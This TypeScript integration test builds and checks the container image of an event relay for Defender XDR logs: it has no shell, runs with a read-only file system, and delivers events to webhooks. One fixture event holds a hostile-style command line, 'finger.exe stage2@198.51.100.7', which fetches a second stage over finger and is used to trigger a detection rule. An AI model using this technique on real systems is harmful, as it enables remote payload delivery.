/**
 * The container image as docs/deploy/container.md builds it where no registry can be reached, run with a read-only file system and
 * a numeric user against Azurite. It needs root, mmdebstrap, buildah and bubblewrap. IMAGE=name checks an image that is there already.
 */
import { execFile } from 'node:child_process';
import { chmod, chown, lstat, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { BlobServiceClient } from '@azure/storage-blob';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { type Azurite, startAzurite } from '../../lab/azurite.ts';
import { notificationRequest } from '../../lab/notifications.ts';
import { type Child, freePort, startChild, untilReady } from '../../lab/process.ts';
import { startWebhookReceiver, type WebhookReceiver } from '../../lab/receivers/webhook.ts';
import manifest from '../../package.json' with { type: 'json' };
import { hourFolder } from '../../src/shared/blob-ref.ts';
import { builtOf, hasKustomize, named } from '../support/kustomize.ts';
import { podOf } from './pods.ts';
import { inSandbox, lacking, makeMountPoints, type Sandbox, terminate, USER } from './sandbox.ts';

const ROOT = join(import.meta.dirname, '../..');
const IMAGE = process.env.IMAGE ?? `localhost/xdr-relay-test:${process.pid}`;
const KEY = 'a-shared-key-for-the-endpoint';
const MAX_BYTES = 200_000_000;

const missing = lacking(['mmdebstrap', 'buildah', 'bwrap', 'setpriv']);
const canRun = missing.length === 0 && process.getuid?.() === 0;
if (!canRun) {
  console.warn(
    `The image is not built: it needs root, and ${missing.join(', ')} (apt-get install mmdebstrap buildah bubblewrap).`,
  );
}

const COMMAND = ['/usr/bin/node', '/opt/xdr-relay/dist/node/xdr-relay.js'];
/** Says for some folders why they cannot be written to, and which user it is. */
const TRY_TO_WRITE = `for (const path of ['/', '/opt', '/etc/xdr-relay', '/usr/bin']) {
  try { require('node:fs').writeFileSync(path + '/x', ''); console.log(path); } catch (error) { console.log(error.code); }
}
console.log(process.getuid());`;

const run = async (command: string, ...args: readonly string[]) =>
  (await promisify(execFile)(command, args, { cwd: ROOT, maxBuffer: 64 * 1024 * 1024 })).stdout.trim();

describe.skipIf(!canRun)('the image', () => {
  let folder: string;
  /** The root of its file system. */
  let root: string;
  let container: string;
  let azurite: Azurite;
  let hook: WebhookReceiver;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'xdr-relay-image-'));
    if (process.env.IMAGE === undefined) await buildImage();
    container = await run('buildah', 'from', '--pull-never', IMAGE);
    // A copy, since the user of the image may not look into the store of images.
    root = join(folder, 'root');
    await run('cp', '--archive', await run('buildah', 'mount', container), root);
    await chmod(folder, 0o755);
  }, 1_200_000);

  beforeEach(async () => {
    azurite = await startAzurite();
    hook = await startWebhookReceiver({ store: true });
  });
  afterEach(async () => {
    await hook?.close();
    await azurite?.stop();
  });

  afterAll(async () => {
    if (container) await run('buildah', 'rm', container);
    if (process.env.IMAGE === undefined) await run('buildah', 'rmi', IMAGE).catch(() => {});
    await rm(folder, { recursive: true, force: true });
  }, 60_000);

  async function buildImage(): Promise<void> {
    await run('deploy/container/debian-base.sh');
    await run(
      'buildah',
      ...['build', '--isolation', 'chroot', '--format', 'docker', '--file', 'deploy/container/Containerfile'],
      ...['--build-arg', 'BUILD_IMAGE=localhost/xdr-relay-build'],
      ...['--build-arg', 'BASE_IMAGE=localhost/xdr-relay-base'],
      ...['--build-arg', `VERSION=${manifest.version}`, '--tag', IMAGE, '.'],
    );
  }

  it('is small, and says what it is', async () => {
    const [image] = JSON.parse(await run('buildah', 'images', '--json', IMAGE));
    const bytes = await run('du', '--summarize', '--bytes', '--one-file-system', root);
    console.log(`The image has ${image.size}, its files ${bytes.split('\t')[0]} bytes.`);
    expect(Number(bytes.split('\t')[0])).toBeLessThan(MAX_BYTES);
    const { Docker } = JSON.parse(await run('buildah', 'inspect', '--type', 'image', IMAGE));
    expect(Docker.config).toMatchObject({
      User: '65532:65532',
      Entrypoint: COMMAND,
      Cmd: ['serve'],
      StopSignal: 'SIGTERM',
      Healthcheck: { Test: ['CMD', ...COMMAND, 'health'] },
      Labels: { 'org.opencontainers.image.version': manifest.version },
    });
  });

  it('has no shell, no package manager and nothing that gains rights', async () => {
    const programs: string[] = [];
    for (const name of await readdir(root, { recursive: true })) {
      const info = await lstat(join(root, name));
      expect(info.mode & 0o6000, name).toBe(0);
      if (info.isFile() && (info.mode & 0o111) !== 0) programs.push(name);
    }
    expect(
      programs.filter((name) => !/\/(?:ld-linux-\w+-?\w*|libc)\.so\.\d+$/.test(name)).toSorted(),
    ).toEqual(['opt/xdr-relay/dist/node/xdr-relay.js', 'usr/bin/node']);
    for (const shell of ['/bin/sh', '/usr/bin/sh', '/bin/bash', '/busybox/sh']) {
      await expect(
        run('setpriv', ...inSandbox({ root, mounts: {}, env: {} }, [shell, '-c', 'true'])),
      ).rejects.toThrow(/No such file/);
    }
  });

  it('has what V8 compiled at a start of it, for whichever user runs it', async () => {
    const { size, mode } = await lstat(join(root, 'opt/xdr-relay/dist/node/serve.compiled'));
    expect(size).toBeGreaterThan(1_000_000);
    expect(mode & 0o777).toBe(0o644);
  });

  it('has the list of its components', async () => {
    const sbom = JSON.parse(await readFile(join(root, 'opt/xdr-relay/sbom.cdx.json'), 'utf8'));
    expect(sbom).toMatchObject({ bomFormat: 'CycloneDX', metadata: { component: { name: 'xdr-relay' } } });
    const names: readonly string[] = sbom.components.map(({ name }: { readonly name: string }) => name);
    expect(names).toContain('zod');
    expect(names).toContain('node');
  });

  /** Creates this hour's blob of a table and tells the endpoint about it. @returns what appends a row. */
  async function newBlob(
    port: number,
  ): Promise<(columns: Readonly<Record<string, string>>) => Promise<void>> {
    const ref = {
      account: azurite.account,
      container: 'insights-logs-advancedhunting-deviceprocessevents',
      name: `tenantId=t/${hourFolder(Date.now())}m=00/PT1H.json`,
    };
    const blobs = BlobServiceClient.fromConnectionString(azurite.connectionString);
    const table = blobs.getContainerClient(ref.container);
    await table.create();
    const blob = table.getAppendBlobClient(ref.name);
    await blob.create();
    const notification = { ref, url: blob.url, id: crypto.randomUUID(), at: Date.now() };
    const { contentType, body } = notificationRequest(notification, 'event_grid');
    const told = await fetch(`http://127.0.0.1:${port}/events?code=${KEY}`, {
      method: 'POST',
      headers: { 'content-type': contentType },
      body,
    });
    expect(told.status).toBe(200);
    return async (columns) => {
      const time = new Date().toISOString();
      const category = 'AdvancedHunting-DeviceProcessEvents';
      const row = { time, tenantId: 't', category, properties: { Timestamp: time, ...columns } };
      const line = `${JSON.stringify(row)}\r\n`;
      await blob.appendBlock(line, line.length);
    };
  }
  const received = () => JSON.stringify(hook.received);
  const arrives = (text: string) =>
    vi.waitFor(() => expect(received()).toContain(text), { timeout: 60_000, interval: 50 });

  it('brings an event to a receiver with a read-only file system and a numeric user', async () => {
    const [port, monitoring] = [await freePort(), await freePort()];
    const sandbox: Sandbox = {
      root,
      mounts: { '/etc/xdr-relay/config': join(folder, 'config'), '/run/secrets': join(folder, 'secrets') },
      env: { EVENT_GRID_KEY: KEY, XDR_RELAY_CONFIG: '/etc/xdr-relay/config/relay.yaml' },
    };
    for (const path of Object.values(sandbox.mounts)) await mkdir(path);
    await makeMountPoints(sandbox);
    await writeFile(
      join(folder, 'config/relay.yaml'),
      `storage: { connection_string: "\${file:/run/secrets/storage}" }
server: { host: 127.0.0.1, port: ${port}, keys: ["\${EVENT_GRID_KEY}"] }
monitoring: { port: ${monitoring} }
transforms: /etc/xdr-relay/transforms
${destinations(hook.url)}`,
    );
    await writeFile(join(folder, 'secrets/storage'), azurite.connectionString, { mode: 0o400 });
    await chown(join(folder, 'secrets/storage'), USER, USER);
    const inside = (...words: readonly string[]) => run('setpriv', ...inSandbox(sandbox, words));

    expect((await inside('/usr/bin/node', '-e', TRY_TO_WRITE)).split('\n')).toEqual([
      ...['EROFS', 'EROFS', 'EROFS', 'EROFS'],
      String(USER),
    ]);
    await expect(inside(...COMMAND, 'health', '--timeout', '1s')).rejects.toMatchObject({ code: 1 });

    const began = performance.now();
    const args = inSandbox(sandbox, [...COMMAND, 'serve']);
    const relay = startChild({ name: 'The relay', program: 'setpriv', args });
    try {
      await untilReady('The relay', relay, { url: `http://127.0.0.1:${port}/healthz`, withinMs: 60_000 });
      console.log(`It answered after ${Math.round(performance.now() - began)} ms.`);
      const url = `http://127.0.0.1:${monitoring}/readyz`;
      await untilReady('The relay', relay, { url, withinMs: 60_000 });
      expect(await inside(...COMMAND, 'health')).toBe(`The relay at 127.0.0.1:${monitoring} runs`);
      expect(await inside(...COMMAND, 'health', '--ready')).toContain('is ready');
      const append = await newBlob(port);
      await append({ DeviceName: 'pc-1', FileName: 'notepad.exe' });
      await arrives('"DeviceName":"pc-1"');
      expect(await terminate(relay)).toEqual({ code: 0, signal: null });
    } catch (error) {
      throw new Error(`${error instanceof Error ? error.message : error}\n${relay.log()}`, { cause: error });
    } finally {
      await relay.stop('SIGKILL');
    }
  }, 180_000);

  it.skipIf(!hasKustomize)(
    'runs as the pods of deploy/kubernetes, which kustomize builds',
    async () => {
      const relayYaml = `storage: { connection_string: "\${file:/run/secrets/xdr-relay/storage}" }
server: { keys: ["\${file:/run/secrets/xdr-relay/event-grid-key}"] }
monitoring: { host: 0.0.0.0 }
transforms: /etc/xdr-relay/transforms
${destinations(hook.url)}alerts: [{ levels: [high], to: [soc-slack] }]
`;
      const replace = { name: 'xdr-relay-config', behavior: 'replace', files: ['relay.yaml'] };
      const objects = await builtOf(
        ['endpoint', 'rules'],
        { configMapGenerator: [replace] },
        { 'relay.yaml': relayYaml },
      );
      const secrets = {
        'xdr-relay-secrets': { storage: azurite.connectionString, 'event-grid-key': `${KEY}\n` },
      };
      const relays: Child[] = [];
      /** Starts one pod of a Deployment. All share the network of this machine, so each gets ports of its own. */
      const start = async (name: string, port: number): Promise<void> => {
        const deployment = named(objects, `Deployment/xdr-relay-${name}`);
        const pod = await podOf(deployment, objects, { root, folder: join(folder, name), secrets });
        await makeMountPoints(pod.sandbox);
        const monitoring = await freePort();
        const ports = ['--port', String(port), '--monitoring-port', String(monitoring)];
        const args = inSandbox(pod.sandbox, [...COMMAND, ...pod.args, ...ports]);
        const relay = startChild({ name, program: 'setpriv', args });
        relays.push(relay);
        const url = `http://127.0.0.1:${monitoring}${pod.readiness}`;
        await untilReady(name, relay, { url, withinMs: 60_000 });
      };
      try {
        const port = await freePort();
        await start('endpoint', port);
        await start('consumers', await freePort());
        const append = await newBlob(port);
        await append({ DeviceName: 'pc-1', InitiatingProcessFileName: 'MsSense.exe' });
        await append({
          DeviceName: 'pc-2',
          FileName: 'finger.exe',
          FolderPath: 'C:\\Windows\\System32\\finger.exe',
          ProcessCommandLine: 'finger.exe stage2@198.51.100.7',
        });
        // The table's filter and the detection are in ConfigMaps, one mounted below the other.
        await arrives('"DeviceName":"pc-2"');
        await arrives('Finger fetches from the internet');
        expect(received()).not.toContain('pc-1');
        for (const relay of relays) expect(await terminate(relay)).toEqual({ code: 0, signal: null });
        const kept = await readdir(join(folder, 'consumers/cache/compiled'), { recursive: true });
        expect(kept.filter((name) => /(?:^|\/)rules$/.test(name))).toHaveLength(1);
      } catch (error) {
        const logs = relays.map((relay) => relay.log()).join('\n');
        throw new Error(`${error instanceof Error ? error.message : error}\n${logs}`, { cause: error });
      } finally {
        for (const relay of relays) await relay.stop('SIGKILL');
      }
    },
    180_000,
  );
});

/** The destinations that the rules of the image name, as one webhook. */
function destinations(url: string): string {
  return `destinations:
  splunk: { type: webhook, url: "${url}", allow_networks: [127.0.0.0/8] }
  soc-slack: { type: webhook, url: "${url}", allow_networks: [127.0.0.0/8] }
default_destinations: [splunk]
`;
}
